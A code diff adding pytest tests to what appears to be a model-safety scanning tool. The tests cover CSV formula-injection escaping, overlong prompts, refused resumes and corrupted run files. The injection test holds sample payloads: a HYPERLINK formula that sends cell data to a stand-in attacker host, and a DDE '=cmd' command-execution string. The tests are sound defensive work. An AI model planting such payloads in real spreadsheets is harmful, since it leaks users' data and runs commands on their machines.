@@ -216,3 +216,117 @@ def test_lock_race_two_writers_never_both_hold_it(tmp_path):
             p.join(60)
         assert sorted(results) == [0, 1], f"round {rnd}: {list(results)}"
         assert not (folder / LOCK_NAME).exists()
+
+
+# ---------------------------------------------------------------------------------------------
+# Security: spreadsheet formula injection in every CSV we write
+
+
+def test_csv_cells_that_spreadsheets_run_are_escaped_and_numbers_round_trip(tmp_path, capsys):
+    from layersafe.evaluate import write_metrics
+    from layersafe.io import read_rows, write_rows
+
+    evil = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
+    rows = [{"id": "a", "prompt": "+1 555 call me", "response": evil, "score": -0.5, "neg_text": "-3",
+             "at": "@SUM(A1)", "tab": "\tx", "cr": "\r=1+1", "plain": "hello", "scores": {"refusal": 0}}]
+    inp = tmp_path / "in.jsonl"
+    write_rows(inp, rows)
+    out = tmp_path / "judged.csv"
+    rc, _, _ = run_cli(["judge", "--input", inp, "--judge", "refusal", "--out", out, "--no-progress"], capsys)
+    assert rc == 0
+    import csv
+
+    with out.open(newline="") as f:
+        raw = next(csv.DictReader(f))
+    assert raw["response"] == "'" + evil and raw["prompt"] == "'+1 555 call me"
+    assert raw["at"] == "'@SUM(A1)" and raw["tab"] == "'\tx" and raw["cr"] == "'\r=1+1"
+    assert raw["score"] == "-0.5" and raw["neg_text"] == "-3" and raw["plain"] == "hello"  # numbers stay numbers
+    back = read_rows(out)[0]  # our own reader round-trips
+    assert back["response"] == evil and back["prompt"] == "+1 555 call me" and back["score"] == "-0.5"
+    # categories from a dataset file end up in metrics_by_category.csv
+    judged = [{"sample_id": "a", "layer": 1, "harmful": True, "category": "=cmd|' /C calc'!A0",
+               "response": "no", "scores": {"refusal": 1}}]
+    write_metrics(tmp_path, judged)
+    text = (tmp_path / "metrics_by_category.csv").read_text()
+    assert ",'=cmd|" in text and ",=cmd" not in text
+
+
+# ---------------------------------------------------------------------------------------------
+# Silent wrong results
+
+from layersafe.scan import run_scan  # noqa: E402
+from tests.test_scan_engine import QUIET, cfg  # noqa: E402
+
+
+def scan_cfg(dataset, out, **kw):
+    return cfg(dataset, out, **{"layers": "0,1", "max_new_tokens": 2, "batch_size": 4, **kw})
+
+
+def test_prompt_longer_than_the_context_is_a_failed_row(tiny_adapter, tmp_path):
+    from layersafe.io import read_jsonl
+
+    data = tmp_path / "d.jsonl"
+    long = "Explain this please. " * 1500  # ~31k characters: under the load-time cap, over a 4096-token context
+    data.write_text(json.dumps({"id": "long", "prompt": long, "image": "skimage:coffee"}) + "\n"
+                    + json.dumps({"id": "short", "prompt": "What is this?", "image": "skimage:coffee"}) + "\n")
+    run = run_scan(scan_cfg(data, tmp_path / "o"), adapter=tiny_adapter, **QUIET)
+    rows = {(r["sample_id"], r["layer"]): r for r in read_jsonl(tmp_path / "o" / "generations.jsonl")}
+    assert run["stats"]["failed"] == 2 and run["stats"]["generated"] == 2
+    bad = rows[("long", 0)]
+    assert bad["response"] is None and bad["error"].startswith("prompt too long:") and "context of 4096" in bad["error"]
+    assert rows[("short", 1)]["error"] is None and rows[("short", 1)]["response"] is not None
+
+
+def test_megabyte_prompt_is_refused_at_load_time_with_its_reason(tmp_path):
+    import time
+
+    from layersafe.data import load_dataset
+
+    data = tmp_path / "d.jsonl"
+    data.write_text(json.dumps({"id": "huge", "prompt": "a" * 1_000_000, "image": "skimage:coffee"}) + "\n"
+                    + json.dumps({"id": "ok", "prompt": "hi", "image": "skimage:coffee"}) + "\n")
+    t = time.time()
+    ds = load_dataset(str(data))
+    assert time.time() - t < 5
+    assert [s.id for s in ds.samples] == ["ok"]
+    assert "prompt is 1,000,000 characters" in ds.errors[0].reason
+
+
+def test_resume_after_the_dataset_changed_in_place_is_refused(tiny_adapter, tmp_path, small_dataset):
+    out = tmp_path / "o"
+    run_scan(scan_cfg(small_dataset, out, limit=2), adapter=tiny_adapter, **QUIET)
+    lines = small_dataset.read_text().splitlines()
+    first = json.loads(lines[0])
+    first["prompt"] = "A different question under the same id"
+    small_dataset.write_text("\n".join([json.dumps(first)] + lines[1:]) + "\n")
+    with pytest.raises(UserError, match="dataset's content changed since the original run"):
+        run_scan(scan_cfg(small_dataset, out, limit=2, resume=True), adapter=tiny_adapter, **QUIET)
+    small_dataset.write_text("\n".join(lines) + "\n")  # restored: resumes
+    run = run_scan(scan_cfg(small_dataset, out, limit=2, resume=True), adapter=tiny_adapter, **QUIET)
+    assert run["stats"]["skipped_done"] == 4
+
+
+def _run_folder(tmp_path, tiny_adapter, small_dataset):
+    from layersafe.evaluate import judge_run
+
+    out = tmp_path / "run"
+    run_scan(scan_cfg(small_dataset, out, limit=3), adapter=tiny_adapter, **QUIET)
+    judge_run(out, ["refusal"], progress=False, log=lambda m: None)
+    return out
+
+
+def test_nan_scores_and_damaged_run_json_in_a_run_folder(tiny_adapter, tmp_path, small_dataset, capsys):
+    from layersafe.io import read_jsonl
+
+    out = _run_folder(tmp_path, tiny_adapter, small_dataset)
+    rows = read_jsonl(out / "scores.jsonl")
+    rows[0]["scores"]["refusal"] = float("nan")
+    rows[1]["scores"]["reward"] = float("inf")
+    (out / "scores.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))  # json writes NaN/Infinity
+    rc, stdout, _ = run_cli(["report", out], capsys)
+    assert rc == 0 and "2 unusable score values" in stdout + json.dumps(json.loads((out / "report" / "summary.json").read_text()))
+    meta = json.loads((out / "run.json").read_text())
+    meta["num_layers"] = 1_000_000_000
+    (out / "run.json").write_text(json.dumps(meta))
+    rc, _, err = run_cli(["report", out], capsys)  # used to hang walking a billion layers
+    assert rc == 2 and "num_layers 1000000000 is not an encoder depth" in one_error_line(err)
